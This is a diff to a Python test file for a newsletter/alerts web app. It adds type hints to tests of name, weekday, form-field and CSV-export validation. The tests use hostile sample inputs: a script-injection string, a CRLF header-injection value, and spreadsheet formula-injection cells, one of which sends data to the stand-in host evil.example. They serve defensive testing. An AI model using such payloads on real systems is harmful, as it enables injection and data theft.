@@ -16,6 +16,7 @@ from pathlib import Path
 
 import pytest
 import requests
+import sqlalchemy as sa
 import yaml
 from webapp import app_for, serve, settings_for
 
@@ -49,7 +50,7 @@ def _engine(config: Path) -> store.Engine:
 
 
 @pytest.mark.parametrize("name", BAD_NAMES)
-def test_a_bad_name_is_refused_by_the_api_add_and_update(engine, name: str) -> None:
+def test_a_bad_name_is_refused_by_the_api_add_and_update(engine: sa.Engine, name: str) -> None:
     with pytest.raises(subscribers.InvalidSubscriber, match=r"^name: "):
         subscribers.add(engine, email="eve@example.org", name=name)
     ok = subscribers.add(engine, email="ok@example.org", name="Fine")
@@ -60,13 +61,15 @@ def test_a_bad_name_is_refused_by_the_api_add_and_update(engine, name: str) -> N
 
 
 @pytest.mark.parametrize("name", [n for n in BAD_NAMES if "\x00" not in n])  # argv cannot hold NUL
-def test_a_bad_name_is_refused_by_the_cli(config: Path, name: str, capsys) -> None:
+def test_a_bad_name_is_refused_by_the_cli(
+    config: Path, name: str, capsys: pytest.CaptureFixture[str]
+) -> None:
     assert cli(["--config", str(config), "subscribers", "add", "eve@example.org", "--name", name]) == 1
     assert capsys.readouterr().err.startswith("error: name: ")
     assert subscribers.list_subscribers(_engine(config)) == []
 
 
-def test_bad_names_are_reported_rows_of_a_csv_import(engine) -> None:
+def test_bad_names_are_reported_rows_of_a_csv_import(engine: sa.Engine) -> None:
     buf = io.StringIO()
     w = csv.writer(buf, lineterminator="\n")
     w.writerow(["email", "name"])
@@ -82,12 +85,12 @@ def test_bad_names_are_reported_rows_of_a_csv_import(engine) -> None:
     )
 
 
-def test_the_longest_allowed_name_fits_a_header_line(engine) -> None:
+def test_the_longest_allowed_name_fits_a_header_line(engine: sa.Engine) -> None:
     for name in ("N" * 100, '"' * 100, "é" * 100, "😀" * 100):
         s = subscribers.add(engine, email=f"n{len(name.encode())}-{ord(name[0])}@example.org", name=name)
         assert s.name == name
         msg = mailer.build_message(
-            _Digest(s),  # type: ignore[arg-type]
+            _Digest(s),
             settings=settings_for(Path(".")),
             unsubscribe_url="https://alerts.example.org/u",
             now=datetime(2026, 11, 27, 9),
@@ -103,7 +106,7 @@ class _Digest:
 
 @pytest.mark.parametrize("weekday", ["²", "٣", "+3", "1_0", "３"])
 def test_a_weekday_in_non_ascii_or_odd_digits_is_a_clear_error_everywhere(
-    config: Path, weekday: str, capsys, tmp_path
+    config: Path, weekday: str, capsys: pytest.CaptureFixture[str], tmp_path: Path
 ) -> None:
     engine = _engine(config)
     # CLI: an error naming the field, not a traceback
@@ -140,7 +143,7 @@ def test_a_weekday_in_non_ascii_or_odd_digits_is_a_clear_error_everywhere(
     assert subscribers.get(engine, ana.id).weekday == 4
 
 
-def test_every_preferences_form_field_refuses_hostile_values(engine, tmp_path: Path) -> None:
+def test_every_preferences_form_field_refuses_hostile_values(engine: sa.Engine, tmp_path: Path) -> None:
     ana = subscribers.add(engine, email="ana@example.org", topics=["nephrology"])
     token = tokens.make_token(ana.link_key, "preferences", issued=datetime.now(UTC).date())
     hostile = ["<script>alert(1)</script>", "daily\r\nX: y", "\x00", "x" * 10_000]
@@ -161,7 +164,7 @@ def test_every_preferences_form_field_refuses_hostile_values(engine, tmp_path: P
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A9)"]
 
 
-def test_csv_export_never_writes_a_cell_a_spreadsheet_would_run(engine, tmp_path: Path) -> None:
+def test_csv_export_never_writes_a_cell_a_spreadsheet_would_run(engine: sa.Engine, tmp_path: Path) -> None:
     for i, name in enumerate(FORMULAS):
         subscribers.add(engine, email=f"f{i}@example.org", name=name)
     subscribers.add(engine, email="=cmd@example.org", name="Plain")  # "=" is legal in an address
@@ -183,7 +186,9 @@ def test_csv_export_never_writes_a_cell_a_spreadsheet_would_run(engine, tmp_path
     copy.dispose()
 
 
-def test_a_control_character_in_a_configured_header_value_is_a_config_error(tmp_path: Path, capsys) -> None:
+def test_a_control_character_in_a_configured_header_value_is_a_config_error(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
     """Every digest carries these: a typo must stop the run at load, not fail every subscriber."""
     cfg = tmp_path / "lupus-alerts.yaml"
     cfg.write_text(
